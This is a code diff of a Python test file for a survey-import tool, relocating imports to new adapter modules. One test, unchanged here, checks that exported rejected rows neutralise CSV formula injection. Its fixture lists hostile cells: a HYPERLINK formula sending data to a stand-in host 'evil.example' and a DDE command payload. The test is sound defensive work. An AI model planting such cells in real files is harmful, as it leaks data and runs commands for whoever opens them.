@@ -25,15 +25,15 @@ from kpi6.models.survey import (
     parse_rating,
     summarize,
 )
-from kpi6.tasks.samples import (
+from kpi6.tasks.adapters.spreadsheets import read_table
+from kpi6.tasks.adapters.survey_files import read_events, read_survey, rejected_path
+from kpi6.tasks.demo import (
     SURVEY_ITEMS,
     lao_pool,
     survey_answers,
     write_google_csv,
     write_msforms_xlsx,
 )
-from kpi6.tasks.survey import read_events, read_survey, rejected_path
-from kpi6.tasks.tables import read_table
 
 ROUND = (date(2023, 10, 1), date(2024, 3, 31))
 runner = CliRunner()
@@ -152,7 +152,7 @@ def test_skip_invalid_imports_the_rest_and_writes_the_rejected_rows(tmp_path):
     path = _bad_file(tmp_path)
     result, checked, table = read_survey(path, period=ROUND, skip_invalid=True)
     assert result.respondents == 9 and result.rejected == 6
-    from kpi6.tasks.survey import write_rejected
+    from kpi6.tasks.adapters.survey_files import write_rejected
 
     out = write_rejected(path, table, checked)
     rejected = list(csv.reader(out.open(encoding="utf-8-sig")))
@@ -383,7 +383,7 @@ def test_a_timestamp_with_a_utc_offset_is_compared_in_bangkok_time(tmp_path, sta
 
 def test_the_rejected_rows_file_neutralises_formulas(tmp_path):
     """OWASP CSV injection: the rejected rows are the office's own cells, opened in Excel; none may run."""
-    from kpi6.tasks.survey import write_rejected
+    from kpi6.tasks.adapters.survey_files import write_rejected
 
     path = tmp_path / "evil.csv"
     cells = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
